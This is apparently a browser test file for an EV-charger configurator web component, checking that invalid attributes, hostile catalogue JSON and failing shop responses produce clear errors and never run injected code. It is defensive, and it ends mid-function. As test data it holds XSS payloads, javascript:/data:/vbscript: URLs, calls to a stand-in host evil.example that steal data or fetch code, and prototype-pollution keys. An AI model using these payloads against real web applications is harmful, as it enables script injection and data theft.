// Bad input, "invalid attributes, a malformed or hostile catalogue JSON, shop answers with
// errors, HTML in shop descriptions (shown as text or sanitised, never executed) …: each gets a
// clear error, nothing crashes, nothing is sent." In Chromium, against the built element.
//
// Pages are written here and served on the demo's origin by request interception (`/bad-input/…`),
// so each case sets exactly the attributes or catalogue it is about. Every page records the
// evc-error events, the requests it makes, dialogs (alert/confirm) and console errors; hostile
// values try to set `globalThis.__pwned`, which must stay unset.
/* global document, window */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import { UK_CATALOGUE } from '../../dist/server.js';
import { useHarness } from './harness.mjs';

const harness = useHarness();

/** Runs in the page before any of its scripts: records what the element reports. */
function recordEvents() {
  window.__evcErrors = [];
  document.addEventListener('evc-error', (event) => {
    const target = event.composedPath()[0];
    window.__evcErrors.push({ element: target.id || target.localName, ...event.detail });
  });
}

const escapeAttribute = (value) => value.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/** `<ev-charger-configurator id=… a="…">`, with each attribute value escaped for HTML. */
const element = (tag, id, attributes = {}) =>
  `<${tag} id="${id}"${Object.entries(attributes)
    .map(([name, value]) => ` ${name}="${escapeAttribute(value)}"`)
    .join('')}></${tag}>`;

/**
 * Opens a page on the demo origin holding `body` and the built script. `files` maps further paths
 * under /bad-input/ to what they answer (`{ status, contentType, body }`, or a route handler).
 */
async function openPage(body, { files = {} } = {}) {
  const opened = await harness.open('/');
  const { page } = opened;
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.addInitScript(recordEvents);
  const html = `<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>Bad input</title></head><body>${body}<script src="/dist/ev-charger-configurator.js"></script></body></html>`;
  await page.route(`${harness.url('/bad-input/')}**`, async (route) => {
    const path = new URL(route.request().url()).pathname.slice('/bad-input/'.length);
    if (path === 'page.html') return route.fulfill({ contentType: 'text/html; charset=utf-8', body: html });
    const file = files[path];
    if (typeof file === 'function') return file(route);
    if (file) return route.fulfill({ status: file.status ?? 200, contentType: file.contentType ?? 'application/json', body: file.body });
    return route.fulfill({ status: 404, contentType: 'text/plain', body: 'Not found' });
  });
  opened.errors.length = 0;
  opened.requests.length = 0;
  await page.goto(harness.url('/bad-input/page.html'));
  return { ...opened, dialogs };
}

const evcErrors = (page) => page.evaluate(() => window.__evcErrors);
const pwned = (page) => page.evaluate(() => window.__pwned);

/** What a page must never do whatever it was given: run injected code, alert, or reach evil.example. */
async function assertHarmless({ page, requests, dialogs }) {
  assert.equal(await pwned(page), undefined, 'no injected code ran');
  assert.deepEqual(dialogs, [], 'no alert, confirm or prompt');
  const bad = (url) => /^(javascript|data|vbscript):/i.test(url) || /(^|\.)evil\.example$/.test(new URL(url).hostname);
  assert.deepEqual(requests.filter(bad), [], 'no request to a bad endpoint');
  assert.equal(await page.evaluate(() => ({}).polluted), undefined, 'Object.prototype is untouched');
}

/** A bad value for each optional attribute of custom-elements.json: the element works on without it. */
const BAD_ATTRIBUTES = [
  ['persist', 'forever'],
  ['shop-domain', 'evil.example/<script>'],
  ['storefront-token', 'token with spaces"><script>window.__pwned=1</script>'],
  ['storefront-endpoint', 'javascript:fetch("https://evil.example/steal")'],
  ['api-version', '2025-13'],
  ['product-id', '123; DROP TABLE products'],
  ['mail-endpoint', 'ftp://evil.example/mail'],
  ['store-cart-endpoint', 'javascript:window.__pwned=1'],
  ['direct-debit-endpoint', 'data:text/html,<script>window.__pwned=1</script>'],
  ['direct-debit-dropin-src', 'javascript:window.__pwned=1//evil.example'],
  ['partner-endpoint', 'vbscript:window.__pwned=1'],
  ['image-cdn', 'http://'],
  ['model-src', 'data:model/gltf-binary;base64,Z2xURg=='],
  ['viewer-src', 'http://[::1/model-viewer.js'],
  ['wizard-src', 'javascript:import("https://evil.example/wizard.js")'],
  ['support-phone', '<img src=x onerror="window.__pwned=1">'],
  ['support-email', 'sales@evil.example?bcc=everyone@evil.example&body=<script>'],
  ['video-url', 'javascript:window.__pwned=1'],
  ['social-url', 'data:text/html,<script>window.__pwned=1</script>'],
  ['terms-url', 'javascript:window.__pwned=1'],
  ['finance-terms-url', 'data:text/html,<script>window.__pwned=1</script>'],
  ['privacy-url', 'vbscript:window.__pwned=1'],
];
/** Bad values with which the element cannot show anything safe: it shows the error panel. */
const FATAL_ATTRIBUTES = [
  ['mode', 'checkout'],
  ['cart', 'basket'],
  ['catalog', 'javascript:window.__pwned=1'],
];

/**
 * The preview asks for its unchosen layers' images in idle time, outside the document: resolves with
 * every image the page has requested once that number has stopped growing for half a second.
 */
function requestedImages(page) {
  return page.evaluate(
    () =>
      new Promise((resolve) => {
        const images = () => performance.getEntriesByType('resource').filter((entry) => entry.initiatorType === 'img').map((entry) => entry.name);
        let count = -1;
        let since = performance.now();
        const check = () => {
          const now = images().length;
          if (now !== count) [count, since] = [now, performance.now()];
          if (performance.now() - since >= 500) resolve(images());
          else setTimeout(check, 50);
        };
        check();
      }),
  );
}

describe('invalid attributes on <ev-charger-configurator>', () => {
  it('has a bad value for every attribute custom-elements.json lists', () => {
    const manifest = JSON.parse(readFileSync(new URL('../../custom-elements.json', import.meta.url), 'utf8'));
    const declared = manifest.modules
      .flatMap((module) => module.declarations ?? [])
      .filter((declaration) => declaration.tagName === 'ev-charger-configurator')
      .flatMap((declaration) => declaration.attributes.map((attribute) => attribute.name));
    assert.ok(declared.length >= 20);
    assert.deepEqual([...declared].sort(), [...BAD_ATTRIBUTES, ...FATAL_ATTRIBUTES].map(([name]) => name).sort());
  });

  it('names each bad optional attribute in a notice and an evc-error, and the element keeps working', async () => {
    const attributes = Object.fromEntries(BAD_ATTRIBUTES);
    const opened = await openPage(element('ev-charger-configurator', 'bad', attributes));
    const { page } = opened;
    const host = page.locator('#bad');
    const notice = host.getByRole('status').filter({ hasText: 'persist=' });
    await notice.waitFor();
    const shown = await notice.innerText();
    const reported = await evcErrors(page);
    for (const [name, value] of BAD_ATTRIBUTES) {
      assert.ok(shown.includes(`${name}=`), `the notice names ${name}`);
      assert.ok(
        reported.some((error) => error.element === 'bad' && error.code === 'invalid-attribute' && error.message.includes(`${name}="${value.trim()}"`)),
        `an evc-error names ${name}="${value}"`,
      );
    }
    // The bad values are shown as text: the notice holds them literally, nothing was parsed as HTML.
    assert.ok(shown.includes('<img src=x onerror="window.__pwned=1">'));
    assert.equal(await host.evaluate((node) => node.shadowRoot.querySelectorAll('script, img[src="x"]').length), 0);

    // The configurator works: a colour changes the total, the fallback image CDN serves the preview.
    const total = host.locator('[data-total]').first();
    await total.filter({ hasText: '£599.00' }).waitFor();
    await host.getByRole('radiogroup', { name: 'Body' }).getByRole('radio', { name: /^Windsor Grey/ }).check();
    await total.filter({ hasNotText: '£599.00' }).waitFor();
    const sources = await requestedImages(page);
    assert.ok(sources.length > 2 && sources.every((src) => src.startsWith(harness.url('/cdn/'))), 'every image from the default CDN');
    // Nothing links to a bad URL, and the bad features are off: no 3D button, no contact links to them.
    assert.deepEqual(await host.evaluate((node) => [...node.shadowRoot.querySelectorAll('[href]')].map((link) => link.getAttribute('href'))), []);
    assert.equal(await host.getByRole('button', { name: 'View in 3D' }).count(), 0);

    // Into the wizard: its file still loads from beside the script, and nothing goes to a bad endpoint.
    await host.getByRole('button', { name: 'Continue' }).click();
    const wizard = host.locator('dialog.evc-wizard');
    await wizard.getByRole('radio', { name: '7kW with 5.5m cable' }).check();
    await wizard.getByText('Checkout is not available on this page.').waitFor();
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  it('refuses an api-version older than the oldest the element accepts, naming that version, and works on at its default', async () => {
    const opened = await openPage(element('ev-charger-configurator', 'old-version', { 'api-version': '2025-04', persist: 'none' }));
    const { page } = opened;
    const host = page.locator('#old-version');
    const message = 'api-version="2025-04" is not valid: expected a Storefront API version 2025-10 or later';
    await host.getByRole('status').filter({ hasText: message }).waitFor();
    assert.deepEqual(
      (await evcErrors(page)).filter((error) => error.element === 'old-version'),
      [{ element: 'old-version', code: 'invalid-attribute', message }],
    );
    await host.locator('[data-total]').first().filter({ hasText: '£599.00' }).waitFor();
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  it('shows the error panel naming mode, cart or catalog when the element cannot start, with nothing else shown', async () => {
    const body = FATAL_ATTRIBUTES.map(([name, value]) => element('ev-charger-configurator', name, { [name]: value })).join('');
    const opened = await openPage(body);
    const { page } = opened;
    for (const [name, value] of FATAL_ATTRIBUTES) {
      const host = page.locator(`#${name}`);
      const alert = host.getByRole('alert');
      await alert.filter({ hasText: 'This configurator cannot start' }).waitFor();
      assert.ok((await alert.innerText()).includes(`${name}="${value}"`), `the panel names ${name}`);
      assert.equal(await host.getByRole('radio').count(), 0, `${name}: no configurator behind the error`);
      assert.ok((await evcErrors(page)).some((error) => error.element === name && error.message.includes(`${name}="${value}"`)));
    }
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  it('follows attributes changed at runtime: a bad value shows its error, a good one brings the element back', async () => {
    const opened = await openPage(element('ev-charger-configurator', 'live', { mode: 'order' }));
    const { page } = opened;
    const host = page.locator('#live');
    const front = host.getByRole('radiogroup', { name: 'Front' });
    await front.waitFor();
    await front.getByRole('radio', { name: /^Racing Green/ }).check();

    await host.evaluate((node) => node.setAttribute('mode', 'everything'));
    await host.getByRole('alert').filter({ hasText: 'mode="everything"' }).waitFor();
    await host.evaluate((node) => node.setAttribute('mode', 'order'));
    await front.waitFor();
    assert.equal(await front.getByRole('radio', { name: /^Racing Green/ }).isChecked(), true, 'the choice survived the bad value');

    await host.evaluate((node) => {
      node.setAttribute('storefront-endpoint', 'javascript:window.__pwned=1');
      node.supportEmail = 'not an e-mail address';
    });
    const notice = host.getByRole('status').filter({ hasText: 'storefront-endpoint=' });
    await notice.filter({ hasText: 'support-email="not an e-mail address"' }).waitFor();
    await host.evaluate((node) => {
      node.setAttribute('storefront-endpoint', '/api/2026-04/graphql.json');
      node.supportEmail = 'sales@quartz-charger.example';
    });
    await notice.waitFor({ state: 'detached' });
    const reported = (await evcErrors(page)).map((error) => error.message);
    for (const text of ['mode="everything"', 'storefront-endpoint="javascript:window.__pwned=1"', 'support-email="not an e-mail address"']) {
      assert.ok(reported.some((message) => message.includes(text)), `evc-error for ${text}`);
    }
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  it('spec-request mode with a bad mail-endpoint says requests cannot be sent, and sends nothing', async () => {
    const opened = await openPage(element('ev-charger-configurator', 'spec', { mode: 'spec-request', 'mail-endpoint': 'javascript:fetch("https://evil.example/mail")' }));
    const { page } = opened;
    const host = page.locator('#spec');
    const notice = host.getByRole('status').filter({ hasText: 'mail-endpoint=' });
    await notice.filter({ hasText: 'Specification requests cannot be sent from this page: it has no mail endpoint configured.' }).waitFor();
    const codes = (await evcErrors(page)).map((error) => error.code).sort();
    assert.deepEqual(codes, ['invalid-attribute', 'invalid-configuration']);
    await host.getByRole('radiogroup', { name: 'Front' }).getByRole('radio', { name: /^Racing Green/ }).check();
    await assertHarmless(opened);
    assert.equal(opened.requests.some((url) => new URL(url).pathname.includes('spec-request')), false, 'no request was sent');
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  // A removed or emptied attribute must stop counting, not leave the element on the old value.
  it('forgets a bad attribute once it is removed', async () => {
    const opened = await openPage(element('ev-charger-configurator', 'removed', { 'storefront-endpoint': 'javascript:window.__pwned=1' }));
    const host = opened.page.locator('#removed');
    const notice = host.getByRole('status').filter({ hasText: 'storefront-endpoint=' });
    try {
      await notice.waitFor();
      await host.evaluate((node) => node.removeAttribute('storefront-endpoint'));
      await notice.waitFor({ state: 'detached' });
    } finally {
      await opened.page.close();
    }
  });

  it('<ev-charger-contact> names its bad attributes and shows only the good lines', async () => {
    const opened = await openPage(
      element('ev-charger-contact', 'contact', {
        'support-phone': 'call +44 <b>now</b>',
        'support-email': 'sales@quartz-charger.example',
        'video-url': 'javascript:window.__pwned=1',
        'social-url': 'vbscript:msgbox(1)',
      }),
    );
    const { page } = opened;
    const host = page.locator('#contact');
    const notice = host.getByRole('status');
    await notice.waitFor();
    const shown = await notice.innerText();
    for (const name of ['support-phone', 'video-url', 'social-url']) assert.ok(shown.includes(`${name}=`), `the notice names ${name}`);
    assert.deepEqual(await host.evaluate((node) => [...node.shadowRoot.querySelectorAll('[href]')].map((link) => link.getAttribute('href'))), ['mailto:sales@quartz-charger.example']);
    assert.equal((await evcErrors(page)).filter((error) => error.element === 'contact' && error.code === 'invalid-attribute').length, 3);
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });
});

/** A copy of the embedded catalogue with `change` applied to it. */
const catalogueWith = (change) => {
  const copy = structuredClone(UK_CATALOGUE);
  change(copy);
  return copy;
};
const deepArrays = (depth) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

/**
 * Hostile but valid: markup and script in every kind of name and description, `javascript:` and
 * `data:` image paths, and prototype keys; as JSON text, so `__proto__` stays a plain key.
 */
const HOSTILE_NAMES = {
  front: '<img src=x onerror="window.__pwned=1">Graphite',
  body: '<script>window.__pwned=1</script>Grey',
  cable: '<svg onload="window.__pwned=1">7kW socket</svg>',
  installation: '<a href="javascript:window.__pwned=1">No installation</a>',
  terms: '<iframe src="javascript:window.__pwned=1"></iframe>I accept',
  product: '<style>*{display:none}</style>Charge Point',
};
function hostileCatalogueText() {
  const catalogue = catalogueWith((c) => {
    c.colours.front.standard[1].name = HOSTILE_NAMES.front;
    c.colours.body[1].name = HOSTILE_NAMES.body;
    const socket = c.cables.find((cable) => cable.id === 'socket_7kw');
    socket.name = HOSTILE_NAMES.cable;
    socket.image = 'javascript:window.__pwned=1';
    const none = c.installations.find((installation) => installation.id === 'no_install');
    none.longName = HOSTILE_NAMES.installation;
    none.name = HOSTILE_NAMES.installation;
    none.terms = HOSTILE_NAMES.terms;
    c.baseProduct.name = HOSTILE_NAMES.product;
    c.colours.front.standard[0].path = 'javascript:window.__pwned=1';
    c.colours.body[0].path = 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>';
    c.cables[0].image = '//evil.example/cable';
    c.paymentPlans[0].description = '<b onmouseover="window.__pwned=1">One-off payment</b>';
  });
  const text = JSON.stringify(catalogue);
  // Prototype keys at the top, in a colour and in the cable list's first entry.
  return `{"__proto__":{"polluted":"top"},"constructor":{"prototype":{"polluted":"constructor"}},${text.slice(1)}`
    .replace('"colours":{"front":{"standard":[{', '"colours":{"front":{"standard":[{"__proto__":{"polluted":"colour","name":"Injected"},')
    .replace('"cables":[{', '"cables":[{"constructor":{"prototype":{"polluted":"cable"}},');
}

/** What the element's shadow root must never hold, whatever the catalogue said. */
const dangerousMarkup = (host) =>
  host.evaluate((node) =>
    [...node.shadowRoot.querySelectorAll('*')].flatMap((child) => [
      ...(['SCRIPT', 'IFRAME', 'STYLE', 'OBJECT', 'EMBED'].includes(child.tagName) ? [child.tagName] : []),
      ...[...child.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((attribute) => `${child.tagName}[${attribute.name}]`),
      ...['href', 'src', 'action', 'formaction'].filter((name) => /^\s*(javascript|data|vbscript):/i.test(child.getAttribute(name) ?? '')).map((name) => `${child.tagName}[${name}]`),
    ]),
  );

/** The catalogue cases that must stop the element: the file answered, what the panel must say. */
const BAD_CATALOGUES = {
  'not-json.json': { file: { contentType: 'text/html', body: '<!doctype html><p>Oops</p>' }, says: 'catalogue: not valid JSON' },
  'empty.json': { file: { body: '' }, says: 'catalogue: not valid JSON' },
  'array.json': { file: { body: '[]' }, says: 'catalogue: must be an object' },
  'null.json': { file: { body: 'null' }, says: 'catalogue: must be an object' },
  'wrong-type.json': { file: { body: JSON.stringify(catalogueWith((c) => (c.cables[0].price = '49.00'))) }, says: 'catalogue.cables[0].price: must be a number of pence' },
  'wrong-list.json': { file: { body: JSON.stringify(catalogueWith((c) => (c.colours.body = 'midnight_black'))) }, says: 'catalogue.colours.body: must be a list' },
  'missing.json': { file: { body: JSON.stringify(catalogueWith((c) => delete c.installations)) }, says: 'catalogue.installations: is missing' },
  'missing-name.json': { file: { body: JSON.stringify(catalogueWith((c) => delete c.colours.hook[2].name)) }, says: 'catalogue.colours.hook[2].name: is missing' },
  'deep.json': { file: { body: JSON.stringify(catalogueWith((c) => (c.colours.body = 'DEEP'))).replace('"DEEP"', deepArrays(5000)) }, says: 'catalogue.colours.body[0]' },
  'huge-junk.json': { file: { body: 'x'.repeat(5 * 1024 * 1024) }, says: 'catalogue: not valid JSON' },
  'status-404.json': { file: { status: 404, contentType: 'text/plain', body: 'Not found' }, says: 'answered 404' },
  'status-500.json': { file: { status: 500, contentType: 'text/plain', body: '<h1>Internal error</h1>' }, says: 'answered 500' },
  'refused.json': { file: (route) => route.abort('connectionrefused'), says: 'could not load' },
};

/** Chromium's own console line for a failed resource: expected for the failing catalogue URLs. */
const resourceFailure = (error) => /Failed to load resource|ERR_CONNECTION_REFUSED/.test(error);

describe('a malformed or hostile catalogue JSON (catalog)', () => {
  it('stops with an error naming what is wrong: not JSON, wrong types, missing fields, deep nesting, 5 MB of junk, 404, 500, refused', async () => {
    const names = Object.keys(BAD_CATALOGUES);
    const body = names.map((name, index) => element('ev-charger-configurator', `c${index}`, { catalog: `/bad-input/catalogue/${name}` })).join('');
    const files = Object.fromEntries(names.map((name) => [`catalogue/${name}`, BAD_CATALOGUES[name].file]));
    const opened = await openPage(body, { files });
    const { page } = opened;
    for (const [index, name] of names.entries()) {
      const host = page.locator(`#c${index}`);
      const alert = host.getByRole('alert').filter({ hasText: 'This configurator cannot start' });
      await alert.waitFor();
      const text = await alert.innerText();
      assert.ok(text.includes(BAD_CATALOGUES[name].says), `${name}: the panel says "${BAD_CATALOGUES[name].says}"; it says ${JSON.stringify(text.slice(0, 300))}`);
      assert.ok(text.length < 1000, `${name}: the message is short (${text.length} characters)`);
      assert.equal(await host.getByRole('radio').count(), 0, `${name}: no configurator from a bad catalogue`);
      const reported = (await evcErrors(page)).filter((error) => error.element === `c${index}`);
      assert.deepEqual(reported.map((error) => error.code), ['invalid-catalogue'], `${name}: one evc-error`);
      assert.ok(reported[0].message.includes(BAD_CATALOGUES[name].says), `${name}: the evc-error says what the panel says`);
    }
    await assertHarmless(opened);
    assert.deepEqual(opened.errors.filter((error) => !resourceFailure(error)), []);
    await page.close();
  });

  it('shows a hostile catalogue\'s markup as text, never runs it, uses no dangerous URL and pollutes no prototype (URL and object)', async () => {
    const text = hostileCatalogueText();
    const opened = await openPage(
      `${element('ev-charger-configurator', 'by-url', { catalog: '/bad-input/catalogue/hostile.json' })}${element('ev-charger-configurator', 'by-object', { persist: 'none' })}`,
      { files: { 'catalogue/hostile.json': { body: text } } },
    );
    const { page } = opened;
    await page.locator('#by-object').evaluate((node, json) => (node.catalog = JSON.parse(json)), text);
    for (const id of ['by-url', 'by-object']) {
      const host = page.locator(`#${id}`);
      const front = host.getByRole('radiogroup', { name: 'Front' });
      await front.getByRole('radio', { name: HOSTILE_NAMES.front }).check();
      await host.getByRole('radiogroup', { name: 'Body' }).getByRole('radio', { name: HOSTILE_NAMES.body }).check();
      const shown = await host.evaluate((node) => node.shadowRoot.textContent);
      for (const name of [HOSTILE_NAMES.front, HOSTILE_NAMES.body, HOSTILE_NAMES.cable]) assert.ok(shown.includes(name), `${id}: ${name} shown as text`);
      assert.equal(shown.includes('Injected'), false, `${id}: nothing read from a __proto__ key`);
      assert.deepEqual(await dangerousMarkup(host), [], `${id}: no element, handler or URL from the catalogue's markup`);
    }
    const sources = await requestedImages(page);
    assert.ok(sources.length > 2 && sources.every((src) => src.startsWith(harness.url('/cdn/'))), 'every image path stays under the image CDN');
    // The wizard shows the cable and installation texts as text as well.
    const host = page.locator('#by-url');
    await host.getByRole('button', { name: 'Continue' }).click();
    const wizard = host.locator('dialog.evc-wizard');
    await wizard.getByRole('radio', { name: HOSTILE_NAMES.cable }).check();
    await wizard.getByRole('button', { name: /^Continue( to checkout)?$/ }).last().click();
    await wizard.getByText(HOSTILE_NAMES.terms).first().waitFor();
    assert.deepEqual(await dangerousMarkup(host), []);
    await assertHarmless(opened);
    // The image CDN has no pictures under the odd paths: 404s, nothing else.
    assert.deepEqual(opened.errors.filter((error) => !resourceFailure(error)), []);
    await page.close();
  });

  it('refuses a catalog property that is not a catalogue: a number, a list, an empty object, wrong types, a javascript: URL', async () => {
    const cases = {
      number: 'catalogue: must be an object',
      list: 'catalogue: must be an object',
      empty: 'catalogue.version: is missing',
      'null-prototype': 'catalogue.currency: must be "GBP"',
      url: 'catalog="javascript:window.__pwned=1" is not a valid http(s) URL',
    };
    const opened = await openPage(Object.keys(cases).map((id) => element('ev-charger-configurator', id)).join(''));
    const { page } = opened;
    await page.evaluate((json) => {
      const catalogue = JSON.parse(json);
      const values = {
        number: 42,
        list: catalogue.cables,
        empty: {},
        'null-prototype': Object.assign(Object.create(null), catalogue, { currency: 'EUR' }),
        url: 'javascript:window.__pwned=1',
      };
      for (const [id, value] of Object.entries(values)) document.getElementById(id).catalog = value;
    }, JSON.stringify(UK_CATALOGUE));
    for (const [id, says] of Object.entries(cases)) {
      const alert = page.locator(`#${id}`).getByRole('alert');
      await alert.filter({ hasText: says }).waitFor();
      assert.ok((await evcErrors(page)).some((error) => error.element === id && error.message.includes(says)), `${id}: evc-error says ${says}`);
    }
    await assertHarmless(opened);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });

  // A catalogue that could not be loaded leaves the buyer a way on: the panel's Try again loads it
  // afresh, and the merchant's contact details are shown where set.
  it('offers a way on when the catalogue could not be loaded (Try again, and how to reach the merchant)', async () => {
    let answered = 0;
    const files = {
      'catalogue/flaky.json': (route) => (answered++ === 0 ? route.fulfill({ status: 503, body: 'Busy' }) : route.fulfill({ contentType: 'application/json', body: JSON.stringify(UK_CATALOGUE) })),
    };
    const opened = await openPage(element('ev-charger-configurator', 'flaky', { catalog: '/bad-input/catalogue/flaky.json', 'support-phone': '020 7946 0321' }), { files });
    const host = opened.page.locator('#flaky');
    try {
      const alert = host.getByRole('alert').filter({ hasText: 'answered 503' });
      await alert.waitFor();
      const retry = alert.getByRole('button', { name: 'Try again' });
      assert.equal(await alert.getByRole('link', { name: '020 7946 0321' }).getAttribute('href'), 'tel:02079460321');
      await retry.click();
      await host.getByRole('radiogroup', { name: 'Front' }).waitFor();
    } finally {
      await opened.page.close();
    }
  });

  // A host page's own object can throw when read: the element shows what went wrong, as for any
  // bad catalogue, instead of staying empty with an uncaught error on the page.
  it('survives a catalog object whose reading throws (a throwing getter, a Proxy)', async () => {
    const opened = await openPage(`${element('ev-charger-configurator', 'getter')}${element('ev-charger-configurator', 'proxy')}`);
    const { page } = opened;
    try {
      await page.evaluate(() => {
        document.querySelector('#getter').catalog = {
          get version() {
            throw new Error('boom');
          },
        };
        document.querySelector('#proxy').catalog = new Proxy({}, { get: () => { throw new Error('trap'); }, has: () => { throw new Error('trap'); } });
      });
      for (const id of ['getter', 'proxy']) await page.locator(`#${id}`).getByRole('alert').waitFor();
      assert.deepEqual(opened.errors, []);
    } finally {
      await page.close();
    }
  });

  it('takes a 5 MB catalogue (a valid one padded with unknown fields) without stalling the page', async () => {
    const padded = catalogueWith((c) => {
      c.notes = 'x'.repeat(4 * 1024 * 1024);
      c.colours.body[0].history = Array.from({ length: 50_000 }, (_, index) => ({ index, note: 'padding' }));
    });
    const body = JSON.stringify(padded);
    assert.ok(body.length > 5 * 1024 * 1024);
    const opened = await openPage(element('ev-charger-configurator', 'huge', { catalog: '/bad-input/catalogue/huge.json' }), {
      files: { 'catalogue/huge.json': { body } },
    });
    const { page } = opened;
    const started = Date.now();
    await page.locator('#huge').getByRole('radiogroup', { name: 'Body' }).waitFor();
    const took = Date.now() - started;
    console.log(`a ${(body.length / 1024 / 1024).toFixed(1)} MB catalogue was ready in ${took} ms`);
    assert.equal(await page.evaluate(() => ({}).polluted), undefined);
    assert.deepEqual(opened.errors, []);
    await page.close();
  });
});

/** CART-4: each Storefront CartErrorCode's client code and what the buyer reads for it. */
const USER_ERRORS = {
  ADDRESS_FIELD_CONTAINS_EMOJIS: 'NOT_SUPPORTED',
  ADDRESS_FIELD_CONTAINS_HTML_TAGS: 'NOT_SUPPORTED',
  ADDRESS_FIELD_CONTAINS_URL: 'NOT_SUPPORTED',
  ADDRESS_FIELD_DOES_NOT_MATCH_EXPECTED_PATTERN: 'NOT_SUPPORTED',
  ADDRESS_FIELD_IS_REQUIRED: 'PRESENT',
  ADDRESS_FIELD_IS_TOO_LONG: 'TOO_LONG',
  INVALID_ZIP_CODE_FOR_COUNTRY: 'INVALID_FOR_COUNTRY',
  INVALID_ZIP_CODE_FOR_PROVINCE: 'INVALID_FOR_COUNTRY_AND_PROVINCE',
  INVALID_MERCHANDISE_LINE: 'LINE_ITEM_NOT_FOUND',
  MAXIMUM_EXCEEDED: 'NOT_ENOUGH_IN_STOCK',
  MINIMUM_NOT_MET: 'GREATER_THAN_OR_EQUAL_TO',
  PROVINCE_NOT_FOUND: 'INVALID_PROVINCE_IN_COUNTRY',
  NOTE_TOO_LONG: 'TOO_LONG',
  INVALID: 'INVALID',
  SOMETHING_NEW_FROM_SHOPIFY: 'INVALID',
};
const BUYER_MESSAGES = {
  INVALID: 'Something in your order could not be accepted. Please check your details and try again.',
  NOT_SUPPORTED: 'Some of what you entered cannot be used here. Please check it and try again.',
  PRESENT: 'A required detail is missing. Please fill it in and try again.',
  TOO_LONG: 'Some of what you entered is too long. Please shorten it and try again.',
  INVALID_FOR_COUNTRY: 'That postcode does not match the country. Please check it.',
  INVALID_FOR_COUNTRY_AND_PROVINCE: 'That postcode does not match the region. Please check it.',
  INVALID_PROVINCE_IN_COUNTRY: 'That region was not found in the country you chose. Please check it.',
  LINE_ITEM_NOT_FOUND: 'An item in your order could not be found in the basket. Please try again.',
  NOT_ENOUGH_IN_STOCK: 'Sorry, part of your order is out of stock or not available in that quantity.',
  GREATER_THAN_OR_EQUAL_TO: 'An item in your order is below its minimum quantity.',
  HTTP_ERROR: 'The shop could not take your request just now. Please try again.',
  GRAPHQL_ERROR: 'The shop could not understand our request. Please try again later or contact us.',
  UNKNOWN_ERROR: 'Something went wrong with the shop. Please try again.',
};

const HOSTILE_TEXT = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>';
const json = (body, status = 200, headers = {}) => ({ status, contentType: 'application/json', headers, body: JSON.stringify(body) });

/** The shop's answers to cartCreate the checkout must survive: what it answered, the code the buyer gets. */
const SHOP_FAILURES = [
  { name: 'HTTP 500', answer: { status: 500, contentType: 'text/html', body: `<h1>${HOSTILE_TEXT}</h1>` }, code: 'HTTP_ERROR' },
  { name: 'HTTP 429', answer: json({ errors: [{ message: 'Throttled' }] }, 429, { 'Retry-After': '1' }), code: 'HTTP_ERROR' },
  { name: 'HTTP 502 with an empty body', answer: { status: 502, body: '' }, code: 'HTTP_ERROR' },
  { name: 'malformed JSON', answer: { status: 200, contentType: 'application/json', body: '{"data": {"cartCreate": ' }, code: 'UNKNOWN_ERROR' },
  { name: 'HTML instead of JSON', answer: { status: 200, contentType: 'text/html', body: HOSTILE_TEXT }, code: 'UNKNOWN_ERROR' },
  { name: 'GraphQL errors carrying markup', answer: json({ errors: [{ message: HOSTILE_TEXT, extensions: { code: 'INTERNAL_SERVER_ERROR' } }] }), code: 'GRAPHQL_ERROR' },
  { name: 'no data', answer: json({ data: { cartCreate: null } }), code: 'UNKNOWN_ERROR' },
  { name: 'a checkout URL that is script', answer: 'javascript-checkout', code: 'UNKNOWN_ERROR' },
  ...Object.entries(USER_ERRORS).map(([shopCode, code]) => ({
    name: `userErrors ${shopCode}`,
    answer: json({ data: { cartCreate: { cart: null, userErrors: [{ field: ['input', 'lines', '0'], message: HOSTILE_TEXT, code: shopCode }], warnings: [] } } }),
    code,
  })),
];

/**
 * A page whose Storefront calls go to the demo stand-in, except those the test queues an answer
 * for (`fail(operation, answer)`): the next call of that operation gets it instead.
 */
async function openShopPage() {
  const queued = [];
  const opened = await openPage(
    element('ev-charger-configurator', 'shop', {
      mode: 'order',
      'storefront-endpoint': '/api/2026-04/graphql.json',
      'storefront-token': 'demo-storefront-token',
      'product-id': 'gid://shopify/Product/46100000011',
      persist: 'none',
    }),
  );
  const { page } = opened;
  await page.route(`${harness.url('/api/2026-04/graphql.json')}`, async (route) => {
    const request = route.request();
    const operation = /\b(?:query|mutation)\s+(\w+)/.exec(request.postDataJSON()?.query ?? '')?.[1];
    const at = queued.findIndex((entry) => entry.operation === operation);
    if (request.method() !== 'POST' || at === -1) return route.continue();
    const [{ answer }] = queued.splice(at, 1);
    if (typeof answer === 'function') return answer(route);
    return route.fulfill({ ...answer, headers: { 'Access-Control-Allow-Origin': '*', ...answer.headers } });
  });
  return { ...opened, fail: (operation, answer) => queued.push({ operation, answer }), queued };
}

/** A cartCreate that works but whose checkout URL is `javascript:`: the stand-in's answer, edited. */
const scriptCheckoutUrl = async (route) => {
  const response = await route.fetch();
  const body = await response.json();
  body.data.cartCreate.cart.checkoutUrl = 'javascript:window.__pwned=1//';
  return route.fulfill({ response, body: JSON.stringify(body) });
};

/** Through the ordering wizard with the fewest choices, to the last step (contact details filled). */
async function toLastStep(host) {
  await host.getByRole('button', { name: 'Continue' }).click();
  const wizard = host.locator('dialog.evc-wizard');
  const next = () => wizard.getByRole('button', { name: /^Continue( to checkout)?$/ }).last().click();
  await wizard.getByRole('radio', { name: '7kW socket' }).check();
  await next();
  await wizard.getByRole('radio', { name: 'Standard with no install' }).check();
  await wizard.getByRole('checkbox', { name: /terms/ }).check();
